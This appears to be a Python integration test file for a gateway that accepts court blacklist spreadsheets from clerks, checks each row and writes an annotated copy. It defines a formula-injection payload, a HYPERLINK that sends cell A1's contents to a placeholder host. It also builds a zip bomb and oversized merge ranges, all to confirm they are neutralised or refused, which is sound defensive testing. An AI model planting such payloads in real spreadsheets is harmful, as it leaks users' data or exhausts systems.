"""A clerk's table before a real gateway: what is taken, what a spreadsheet spoilt, and the copy that says so."""

import io
import json
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.styles import Font
from openpyxl.worksheet.worksheet import Worksheet

from adapters.sheets.table import read_sheet
from gateway.client import GatewayClient
from gateway.demo.cast import COURT
from gateway.errors import BadRequest, Unavailable
from gateway.ways_in.sheet import send_sheet
from schemas.sheet import SheetFault
from tests.integration.district import FEED, MARKET, TO_MARKET, District

HEAD = [
    "序号",
    "案号",
    "被执行人姓名/名称",
    "身份证号码/组织机构代码",
    "执行法院",
    "发布时间",
    "失信被执行人行为具体情形",
]
NAME, CODE = "焦作市山阳区示例建材有限公司", "91410811MA47YB0X60"
EVIL = '=HYPERLINK("http://x.example?"&A1,"案")'


def row(number: int, **changed: Any) -> list[Any]:
    cells = dict(zip(HEAD, [number, f"（2026）豫0811执{number}号", NAME, CODE, "焦作市山阳区人民法院", "2026-10-09",
                            "违反财产报告制度"], strict=True))  # fmt: skip
    return list((cells | changed).values())


ROUNDED = {"身份证号码/组织机构代码": "4.10811E+17"}


def workbook(*rows: list[Any], title: str | None = "失信被执行人名单") -> openpyxl.Workbook:
    book = openpyxl.Workbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    if title:
        sheet.append([title])
        sheet["A1"].font = Font(bold=True, color="FF0000FF")
    sheet.append(HEAD)
    for one in rows:
        sheet.append(one)
    return book


def saved(book: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv(*rows: list[Any]) -> bytes:
    return "\n".join(",".join(map(str, one)) for one in (HEAD, *rows)).encode("gb18030") + b"\n"


class Clerk:
    def __init__(self, district: District, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self.district, self.folder, self.capsys = district, folder, capsys
        self.copies: dict[str, Path] = {}

    async def send(self, name: str, data: bytes, client: GatewayClient | None = None) -> tuple[int, dict[str, Any]]:
        """Exit status and what is printed."""
        file = self.folder / name
        file.write_bytes(data)
        status = await send_sheet(client or self.district.client(COURT), FEED, file, read_sheet(data))
        assert file.read_bytes() == data, "the clerk's own file is as it was"
        said = json.loads(self.capsys.readouterr().out)
        assert isinstance(said, dict)
        self.copies[name] = self.folder / said["copy"]
        return status, said

    def copy(self, name: str, sheet: int = 0) -> Worksheet:
        found = openpyxl.load_workbook(self.copies[name]).worksheets[sheet]
        assert isinstance(found, Worksheet)
        return found

    async def listed(self) -> list[str]:
        events, _ = await self.district.pull(MARKET, TO_MARKET)
        return sorted(one["record"]["case"]["number"] for one in events if one["record"])


@pytest.fixture
def clerk(district: District, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Clerk:
    return Clerk(district, tmp_path, capsys)


def beside(sheet: Worksheet) -> list[tuple[Any, ...]]:
    """The two columns that the copy has more, row by row."""
    return [tuple(one) for one in sheet.iter_rows(min_col=len(HEAD) + 1, max_col=len(HEAD) + 2, values_only=True)]


async def test_each_row_has_its_verdict_and_the_workbook_its_formats(clerk: Clerk) -> None:
    book = workbook(row(1), row(2, **ROUNDED), [], row(3, 案号=None), row(4, 发布时间=46304), row(5))
    sheet = book.worksheets[0]
    sheet["C3"].font, sheet["F3"].number_format = Font(italic=True), "yyyy-mm-dd"
    sheet.column_dimensions["C"].width = 33
    second = book.create_sheet("第二页")
    second.append(HEAD)
    second.append(row(6))
    status, said = await clerk.send("list.xlsx", saved(book))
    assert (status, said["rows"], said["refused"], said["counts"]["listed"]) == (3, 6, 3, 3)
    assert said["codes"] == {"rounded-identifier": 1, "serial-date": 1, "no-case-number": 1}
    copy = clerk.copy("list.xlsx")
    taken, told = ("已接收", None), beside(copy)
    assert told[:3] == [(None, None), ("核验结果", "核验原因"), taken]
    assert (told[3][0], "rounded-identifier" in str(told[3][1])) == ("未接收", True)
    assert told[4] == (None, None)
    assert [("no-case-number" in str(told[5][1])), ("serial-date" in str(told[6][1])), told[7]] == [True, True, taken]
    assert (copy["C3"].font.italic, copy["F3"].number_format, copy.column_dimensions["C"].width) == (
        True, "yyyy-mm-dd", 33,
    )  # fmt: skip
    assert copy["A1"].font.bold
    assert beside(clerk.copy("list.xlsx", 1)) == [("核验结果", "核验原因"), taken]
    assert await clerk.listed() == sorted(f"（2026）豫0811执{number}号" for number in (1, 5, 6))


async def test_the_copy_mended_and_sent_again(clerk: Clerk) -> None:
    await clerk.send("list.xlsx", saved(workbook(row(1), row(2, **ROUNDED))))
    book = openpyxl.load_workbook(clerk.folder / "list.verdict.xlsx")
    book.worksheets[0]["D4"] = CODE
    status, said = await clerk.send("mended.xlsx", saved(book))
    assert (status, said["counts"]["listed"], said["counts"]["unchanged"]) == (0, 1, 1)
    assert beside(clerk.copy("mended.xlsx"))[1:] == [("核验结果", "核验原因"), ("已接收", None), ("已接收", None)]
    assert clerk.copy("mended.xlsx").max_column == len(HEAD) + 2


async def test_a_copy_in_which_rows_were_mended_is_never_written_over(clerk: Clerk) -> None:
    """Nor that of a CSV beside the workbook, which has the same name before its ending."""
    data = saved(workbook(row(1), row(2, **ROUNDED)))
    assert (await clerk.send("list.xlsx", data))[1]["copy"] == "list.verdict.xlsx"
    mended = b"mended by the clerk"
    (clerk.folder / "list.verdict.xlsx").write_bytes(mended)
    assert (await clerk.send("list.xlsx", data))[1]["copy"] == "list.verdict-2.xlsx"
    assert (await clerk.send("list.csv", csv(row(1))))[1]["copy"] == "list.verdict-3.xlsx"
    assert (clerk.folder / "list.verdict.xlsx").read_bytes() == mended


@pytest.mark.parametrize(
    "put",
    [
        '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        "<mergeCells><mergeCell ref='&#65;1:XFD1048576'/></mergeCells>",
        '<mergeCells><mergeCell ref="A:XFD"/></mergeCells>',
        '<hyperlinks><hyperlink ref="A1:XFD1048576" location="x"/></hyperlinks>',
    ],
)
def test_ranges_that_would_be_gigabytes_are_refused_before_a_row_is_sent(put: str) -> None:
    book, out = saved(workbook(row(1))), io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            content = old.read(part)
            if part.filename == "xl/worksheets/sheet1.xml":
                content = content.replace(b"</sheetData>", b"</sheetData>" + put.encode())
                assert put.encode() in content
            new.writestr(part.filename, content)
    with pytest.raises(
        SheetFault, match=r"cover far more|cannot be read"
    ):  # of whole columns the reader says so itself
        read_sheet(out.getvalue())


async def test_the_same_table_again_counts_once(clerk: Clerk) -> None:
    data = saved(workbook(row(1)))
    await clerk.send("list.xlsx", data)
    size = (await clerk.district.tree_head()).size
    assert (await clerk.send("again.xlsx", data))[0] == 0
    assert (await clerk.district.tree_head()).size == size


async def test_a_csv_becomes_a_workbook_of_text(clerk: Clerk) -> None:
    """No code is rounded when the clerk opens the copy, and what looks like a formula is none."""
    evil = row(2, 执行法院=EVIL.replace(",", ";"))
    status, said = await clerk.send("list.csv", csv(row(1), evil, row(3, **ROUNDED), [1, 2]))
    assert (status, said["rows"], said["codes"]["rounded-identifier"]) == (3, 4, 1)
    copy = clerk.copy("list.csv")
    assert [copy.cell(2, column).value for column in (2, 4)] == [row(1)[1], CODE]
    assert (copy["E3"].data_type, copy["E3"].value) == ("s", evil[4])
    assert {cell.data_type for one in copy.iter_rows() for cell in one if cell.value is not None} == {"s"}
    assert beside(copy)[0] == ("核验结果", "核验原因")


async def test_no_text_of_a_cell_becomes_a_formula_in_the_copy(clerk: Clerk) -> None:
    book = workbook(row(1))
    cell = book.worksheets[0]["E3"]
    cell.value, cell.data_type = EVIL, "s"
    await clerk.send("list.xlsx", saved(book))
    copy = clerk.copy("list.xlsx")
    assert (copy["E3"].value, copy["E3"].data_type) == (EVIL, "s")
    assert {cell.data_type for one in copy.iter_rows(min_col=8) for cell in one if cell.value is not None} == {"s"}


async def test_a_withdrawal_in_a_sheet_needs_its_case_and_name_alone(clerk: Clerk) -> None:
    await clerk.send("list.xlsx", saved(workbook(row(1))))
    book = workbook([*row(1, **ROUNDED), "已撤销"])
    book.worksheets[0]["H2"] = "状态"
    status, said = await clerk.send("back.xlsx", saved(book))
    assert (status, said["counts"]["withdrawn"]) == (0, 1)


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("xl/worksheets/sheet1.xml", b" " * 300_000_000)
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (zip_bomb, "unpacks to far more"),
        (lambda: b"PK\x03\x04 no workbook", "cannot be read"),
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "old form"),
        (lambda: b"no table at all", "no row of headings"),
        (lambda: saved(workbook()), "no row"),
        (lambda: csv(*([row(1)] * 50_001)), "more than 50,000 rows"),
    ],
    ids=["bomb", "broken", "old", "text", "empty", "long"],
)
def test_a_table_that_is_none_is_refused_whole(data: Any, said: str) -> None:
    with pytest.raises(SheetFault, match=said):
        read_sheet(data())


async def test_a_cell_far_out_leaves_no_room(clerk: Clerk) -> None:
    book = workbook(row(1))
    book.worksheets[0]["XFD90"] = "x"
    with pytest.raises(BadRequest, match="sheet-unwritable"):
        await clerk.send("list.xlsx", saved(book))


async def test_a_copy_that_cannot_be_written_is_made_by_the_next_run(clerk: Clerk) -> None:
    (clerk.folder / ".list.verdict.xlsx.tmp").mkdir()
    data = saved(workbook(row(1)))
    with pytest.raises(Unavailable, match="verdict-unwritable"):
        await clerk.send("list.xlsx", data)
    (clerk.folder / ".list.verdict.xlsx.tmp").rmdir()
    assert (await clerk.send("list.xlsx", data))[1]["counts"]["listed"] == 1
    assert sorted(one.name for one in clerk.folder.iterdir() if one.suffix == ".xlsx") == [
        "list.verdict.xlsx", "list.xlsx",
    ]  # fmt: skip
